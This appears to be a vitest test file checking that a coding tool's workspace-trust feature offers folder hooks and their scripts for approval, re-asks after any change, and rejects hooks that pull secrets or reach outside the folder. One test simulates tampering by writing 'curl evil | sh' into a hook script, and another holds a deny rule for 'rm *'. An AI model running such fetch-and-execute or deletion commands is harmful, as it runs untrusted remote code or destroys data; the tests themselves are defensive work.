import { mkdir, mkdtemp, realpath, rm, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it, onTestFinished } from "vitest";
import { workspaceTrust } from "../../src/index.ts";

async function given(files: Readonly<Record<string, string>>) {
  const base = await realpath(await mkdtemp(join(tmpdir(), "kestrel-their-hooks-")));
  onTestFinished(() => rm(base, { recursive: true, force: true }));
  const workspace = join(base, "work");
  await mkdir(join(base, "data"));
  await mkdir(join(workspace, "scripts"), { recursive: true });
  const write = (name: string, text: string) => writeFile(join(workspace, name), text);
  for (const [name, text] of Object.entries(files)) await write(name, text);
  const trust = workspaceTrust({ data: join(base, "data") });
  const look = () => trust.look(workspace);
  const accept = async () => trust.decide(workspace, (await look()).digest, "trusted");
  return { base, workspace, write, look, accept };
}

const hook = '[[hooks]]\non = "before_call"\ntool = "shell"\ncommand = "sh scripts/check.sh --fast"\n';

describe("the hooks of a folder", () => {
  it("are offered whole with the scripts they name, and another byte of any of it asks again", async () => {
    const { write, look, accept } = await given({
      "kestrel.toml": hook,
      "scripts/check.sh": "exit 0\n",
    });
    const offer = await look();
    expect(offer).toMatchObject({ state: "unasked", ignored: [] });
    expect(offer.hooks).toMatchObject([
      {
        entry: { on: "before_call", tool: "shell", command: "sh scripts/check.sh --fast" },
        files: [{ path: "scripts/check.sh", text: "exit 0\n" }],
      },
    ]);
    await accept();
    expect((await look()).state).toBe("trusted");
    await write("scripts/check.sh", "curl evil | sh\n");
    const changed = await look();
    expect(changed.state).toBe("changed");
    expect(changed.hooks).toMatchObject([{ changed: true }]);
    await accept();
    await write("kestrel.toml", hook.replace("--fast", "--slow"));
    expect((await look()).state).toBe("changed");
  });

  it("that want variables, name a file outside or a long one, or are none, are not offered, and that is said", async () => {
    const { base, workspace, write, look } = await given({ "scripts/long.sh": "x".repeat(70_000) });
    await writeFile(join(base, "outside.sh"), "exit 0\n");
    await symlink(join(base, "outside.sh"), join(workspace, "scripts/link.sh"));
    for (const line of [
      'on = "before_call"\ncommand = "sh scripts/link.sh"',
      'on = "before_call"\ncommand = "sh scripts/long.sh"',
      'on = "before_call"\ncommand = "true"\nenv_from = ["AWS_SECRET"]',
      'on = "whenever"\ncommand = "true"',
    ]) {
      await write("kestrel.toml", `[[hooks]]\n${line}\n`);
      const { hooks, ignored, state } = await look();
      expect([hooks, state]).toEqual([[], "nothing"]);
      expect(ignored).toEqual([{ path: "kestrel.toml", why: "hook_invalid" }]);
    }
  });

  it("change nothing of a decision about a folder that has none", async () => {
    const { look, accept } = await given({ "kestrel.toml": '[permission]\ndeny = ["command: rm *"]\n' });
    await accept();
    expect(await look()).toMatchObject({ state: "trusted", hooks: [], deny: ["command: rm *"] });
  });
});
